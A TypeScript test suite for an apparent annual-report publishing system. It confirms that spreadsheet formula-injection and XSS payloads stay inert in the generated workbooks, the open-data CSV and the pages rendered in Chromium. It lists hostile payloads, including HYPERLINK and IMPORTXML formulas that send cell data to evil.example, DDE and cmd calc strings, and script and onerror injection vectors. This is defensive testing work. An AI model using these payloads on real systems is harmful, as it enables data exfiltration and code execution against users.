/**
 * What goes out must be inert. Formula injection (1,000+ payloads starting with = + - @ tab CR…) written into every
 * text cell of the generated workbook and into the open-data CSV: no cell becomes a formula, no CSV field starts
 * like one. Script and markup (1,000+ payloads) in every text field of accepted reports — agency name, preamble, the
 * three prose sections — shown on the published pages and the year's index in headless Chromium: nothing runs,
 * nothing loads, every payload is there as text.
 */
import { publishedPaths } from '../../contract/published';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import type { Browser } from 'playwright-core';
import { launchChromium } from '../../harness/chromium';
import { signDevToken } from '../../dev/devAuth';
import { FORMAT_2021 } from '../../report/format';
import type { Report } from '../../report/model/types';
import { reportToOpenData, toCsv } from '../../report/render';
import { META_AGENCY, META_PREAMBLE, proseId, workbookLayout } from '../../report/workbook/layout';
import { writeWorkbook } from '../../report/workbook/template';
import { sheetParts, xlsxParts } from '../report/workbook/helpers';
import { acceptedReport, Tally } from './helpers';
import { startHostileStack, type HostileStack } from './stack';

jest.setTimeout(180_000);

const YEAR = 2021;
const SEED = 20260603;

let stack: HostileStack;
let admin: string;
const tally = new Tally();

beforeAll(async () => {
  stack = await startHostileStack('hostile-output');
  admin = await signDevToken(stack.key, { admin: true });
});
afterAll(async () => {
  tally.print('hostile output: cases and answers');
  await stack?.close();
});

// ── Formula injection ────────────────────────────────────────────────────────────────────────────────────────────

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', ' =', '  +', '\n=', '\t=', '\r\n@'];
const FORMULA_TAILS = [
  'HYPERLINK("https://evil.example/?d="&A1,"点击查看")',
  "cmd|' /C calc'!A0",
  'SUM(1+1)*cmd|" /C calc"!A0',
  '1+1',
  'IMPORTXML(CONCAT("https://evil.example/?",B3),"//a")',
  'DDE("cmd";"/C calc";"!A0")',
  'WEBSERVICE("https://evil.example")',
  "2+5+cmd|' /C notepad'!A0",
];
const formulaPayloads = fc.sample(
  fc
    .tuple(fc.constantFrom(...FORMULA_STARTS), fc.constantFrom(...FORMULA_TAILS), fc.string({ maxLength: 20 }))
    .map(([a, b, c]) => `${a}${b}${c}`),
  { numRuns: 1100, seed: SEED },
);

const layout = workbookLayout(FORMAT_2021);
const TEXT_SLOTS = layout.inputs.filter((s) => s.id !== 'meta.year');

/** Reports carrying the payloads in every text input of the workbook: agency, preamble, prose, and each table cell. */
function carriers(payloads: readonly string[]): { report: Report; placed: Map<string, string> }[] {
  const out: { report: Report; placed: Map<string, string> }[] = [];
  for (let i = 0; i < payloads.length; i += TEXT_SLOTS.length) {
    const chunk = payloads.slice(i, i + TEXT_SLOTS.length);
    const report = acceptedReport(YEAR, `formula-${i}`);
    const placed = new Map<string, string>();
    chunk.forEach((p, k) => {
      const slot = TEXT_SLOTS[k]!;
      placed.set(slot.id, p);
      if (slot.id === META_AGENCY) report.agency = p;
      else if (slot.id === META_PREAMBLE) report.preamble = p;
      else if (slot.id === proseId('overview')) report.sections.overview = p;
      else if (slot.id === proseId('problems')) report.sections.problems = p;
      else if (slot.id === proseId('other')) report.sections.other = p;
      else report.values[slot.id] = p;
    });
    out.push({ report, placed });
  }
  return out;
}

/** Fields of a CSV text (RFC 4180), each with whether it was quoted. */
function csvFields(csv: string): { text: string; quoted: boolean }[] {
  const out: { text: string; quoted: boolean }[] = [];
  let i = csv.charCodeAt(0) === 0xfeff ? 1 : 0;
  while (i < csv.length) {
    if (csv[i] === '"') {
      let text = '';
      for (i++; ; i++) {
        if (csv[i] === '"' && csv[i + 1] === '"') {
          text += '"';
          i++;
        } else if (csv[i] === '"') break;
        else text += csv[i];
      }
      out.push({ text, quoted: true });
      i++;
    } else {
      let j = i;
      while (j < csv.length && csv[j] !== ',' && csv[j] !== '\r') j++;
      out.push({ text: csv.slice(i, j), quoted: false });
      i = j;
    }
    if (csv[i] === ',') i++;
    else if (csv[i] === '\r' && csv[i + 1] === '\n') i += 2;
  }
  return out;
}

/** What a spreadsheet would run: a field starting with = + - @ (after spaces) or a tab, CR or LF. */
const RUNS_AS_FORMULA = /^\s*[=+\-@]|^[\t\r\n]/;

function expectCsvInert(csv: string): number {
  let text = 0;
  for (const f of csvFields(csv)) {
    if (!f.quoted) {
      // Unquoted fields are numbers (a negative count stays a number) or blank.
      expect(f.text).toMatch(/^(-?\d+(\.\d+)?)?$/);
      continue;
    }
    text++;
    if (RUNS_AS_FORMULA.test(f.text)) throw new Error(`CSV field would run as a formula: ${JSON.stringify(f.text)}`);
  }
  return text;
}

test('formula injection: no payload becomes a formula in the generated workbook or starts like one in the CSV', async () => {
  expect(formulaPayloads.length).toBeGreaterThanOrEqual(1000);
  // The template's own formulas (the title joins 机关名称 and 年度): payloads must add none and change none.
  const formulasOf = (bytes: Uint8Array) =>
    [...sheetParts(xlsxParts(bytes))].flatMap(([name, xml]) =>
      [...xml.matchAll(/<c r="([A-Z]+\d+)"[^>]*>(?:(?!<\/c>).)*?<f>([^<]*)<\/f>/g)].map(
        (m) => `${name}!${m[1]}=${m[2]}`,
      ),
    );
  const templateFormulas = formulasOf(await writeWorkbook({ report: acceptedReport(YEAR, 'plain') }));
  expect(templateFormulas.length).toBeGreaterThan(0);
  for (const { report, placed } of carriers(formulaPayloads)) {
    const bytes = await writeWorkbook({ report });
    expect(formulasOf(bytes)).toEqual(templateFormulas);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
    for (const [id, payload] of placed) {
      const slot = layout.byId.get(id)!;
      const cell = wb.getWorksheet(slot.sheet)!.getCell(slot.address);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(String(cell.value).replace(/\r\n?/g, '\n')).toBe(payload.replace(/\r\n?/g, '\n'));
      tally.add('formula payload in a workbook cell', 'text, not formula');
    }
    // In the CSV: the agency and every table cell (the prose is not open data), each with a leading ' .
    const csv = toCsv([reportToOpenData(report, { agencyId: 'x' })]);
    expectCsvInert(csv);
    const fields = new Set(csvFields(csv).map((f) => f.text));
    for (const [id, payload] of placed) {
      if (id === META_PREAMBLE || id.startsWith('text.')) continue;
      expect(fields.has(`'${payload}`)).toBe(true);
      tally.add('formula payload in a CSV field', 'neutralised');
    }
  }
  expect(tally.cases('formula payload in a workbook cell')).toBe(formulaPayloads.length);

  // Over the API: accepted reports whose agency names are payloads, then the year's open data as CSV.
  const names = formulaPayloads.filter((p) => p.trim().length > 1).slice(0, 30);
  for (const [i, name] of names.entries()) {
    const agency = `csv-${i}`;
    const token = await signDevToken(stack.key, { agency });
    const report = acceptedReport(YEAR, `csv-${i}`, name.slice(0, 200));
    const r = await stack.call('http', 'POST', '/api/reports', {
      token,
      headers: { 'content-type': 'application/json', 'idempotency-key': `csv-${i}` },
      body: JSON.stringify(report),
    });
    tally.add('accepted report, agency name a formula', r.status);
    expect(r.status).toBe(201);
  }
  // Every report of the year fits on the top node's first page.
  const csv = await stack.call('http', 'GET', publishedPaths.csv(YEAR, '_', 1));
  tally.add('open-data CSV over HTTPS', csv.status);
  expect(csv.status).toBe(200);
  expectCsvInert(csv.text);
  const agencyFields = csvFields(csv.text).filter(
    (f) => f.quoted && names.some((n) => f.text.endsWith(n.trim().slice(-10))),
  );
  expect(agencyFields.length).toBeGreaterThanOrEqual(names.length);
});

// ── Script and markup ────────────────────────────────────────────────────────────────────────────────────────────

const VECTORS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '"><svg onload=window.__pwned=1>',
  '\'><iframe src="javascript:parent.__pwned=1"></iframe>',
  '</title><script>window.__pwned=1</script>',
  '<a href="javascript:window.__pwned=1">点我</a>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<link rel=stylesheet href=https://evil.example/y.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<object data="https://evil.example/z"></object>',
  '<base href="https://evil.example/">',
  '<!--',
  '-->',
  ']]>',
  '<![CDATA[x]]>',
  '{{constructor.constructor("window.__pwned=1")()}}',
  '<body onload=window.__pwned=1>',
  '<input autofocus onfocus=window.__pwned=1>',
  '<details open ontoggle=window.__pwned=1>',
  '&lt;script&gt;',
  '&#60;script&#62;alert(1)',
  '\u2028\u2029<b>粗体</b>',
  '<img src="https://evil.example/pixel.gif">',
  '<form action=https://evil.example><button>提交</button></form>',
  'javascript:alert(1)',
  '<svg><use href="https://evil.example/s.svg#x"/></svg>',
];
const markupPayloads = fc
  .sample(
    fc
      .tuple(fc.constantFrom(...VECTORS), fc.string({ maxLength: 12 }), fc.constantFrom(...VECTORS))
      .map(([a, b, c]) => `${a}${b}${c}`),
    { numRuns: 1100, seed: SEED + 1 },
  )
  .map((p, i) => `MK${i}X${p}`);

test('script and markup in every text field: inert on the published pages and the index, in Chromium', async () => {
  const PER_REPORT = 55;
  const reports: { agency: string; markers: string[] }[] = [];
  for (let i = 0; i < markupPayloads.length; i += PER_REPORT) {
    const chunk = markupPayloads.slice(i, i + PER_REPORT);
    const agency = `xss-${reports.length}`;
    const report = acceptedReport(YEAR, agency, chunk[0]!.slice(0, 200));
    const part = (from: number, to: number) => chunk.slice(from, to).join('\n');
    report.preamble = part(1, 12);
    report.sections.overview = `${report.sections.overview}\n${part(12, 26)}`;
    report.sections.problems = `${report.sections.problems}\n${part(26, 40)}`;
    report.sections.other = `${report.sections.other}\n${part(40, PER_REPORT)}`;
    const token = await signDevToken(stack.key, { agency });
    const r = await stack.call('http', 'POST', '/api/reports', {
      token,
      headers: { 'content-type': 'application/json', 'idempotency-key': agency, 'x-confirm-warnings': 'all' },
      body: JSON.stringify(report),
    });
    tally.add('accepted report, markup in every text field', r.status);
    if (r.status !== 201) throw new Error(`${agency} refused: ${r.text.slice(0, 400)}`);
    reports.push({ agency, markers: chunk.map((p) => p.slice(0, p.indexOf('X') + 1)) });
  }

  const browser: Browser = await launchChromium();
  try {
    const context = await browser.newContext({ ignoreHTTPSErrors: true });
    const pages = [
      ...reports.map((r) => ({ path: publishedPaths.report(r.agency, YEAR), markers: r.markers })),
      { path: publishedPaths.index(YEAR), markers: reports.map((r) => r.markers[0]!) },
    ];
    for (const { path, markers } of pages) {
      const page = await context.newPage();
      const seen = { dialogs: [] as string[], requests: [] as string[], errors: [] as string[] };
      page.on('dialog', (d) => void (seen.dialogs.push(d.message()), d.dismiss()));
      page.on('request', (r) => seen.requests.push(r.url()));
      page.on('pageerror', (e) => seen.errors.push(String(e)));
      await page.addInitScript(() => {
        const w = window as unknown as { __violations: string[] };
        w.__violations = [];
        document.addEventListener('securitypolicyviolation', (e) =>
          w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`),
        );
      });
      const url = `${stack.target.url}${path}`;
      const res = await page.goto(url, { waitUntil: 'load' });
      expect(res?.status()).toBe(200);
      await page.waitForTimeout(100);
      const state = await page.evaluate(() => ({
        scripts: document.scripts.length,
        pwned: (window as unknown as { __pwned?: unknown }).__pwned,
        violations: (window as unknown as { __violations: string[] }).__violations,
        text: document.body.textContent ?? '',
        location: window.location.href,
      }));
      expect(state.scripts).toBe(0);
      expect(state.pwned).toBeUndefined();
      expect(state.location).toBe(url);
      expect(seen.dialogs).toEqual([]);
      expect(seen.errors).toEqual([]);
      expect(seen.requests.filter((u) => u !== url && !u.endsWith('/favicon.ico'))).toEqual([]);
      // Blocked by the page's CSP if anything had tried (it allows nothing but its own stylesheet).
      expect(state.violations.filter((v) => !v.includes('favicon'))).toEqual([]);
      for (const m of markers) if (!state.text.includes(m)) throw new Error(`${path}: ${m}… is not shown as text`);
      tally.add(path.split('/').length > 4 ? 'published page in Chromium' : 'year index in Chromium', 'inert');
      for (let k = 0; k < markers.length; k++) tally.add('markup payload shown as text', 'inert');
      await page.close();
    }
  } finally {
    await browser.close();
  }
  expect(tally.cases('markup payload shown as text')).toBeGreaterThanOrEqual(1000);
  expect(await stack.versions('xss-0', YEAR, admin)).toBe(1);
});
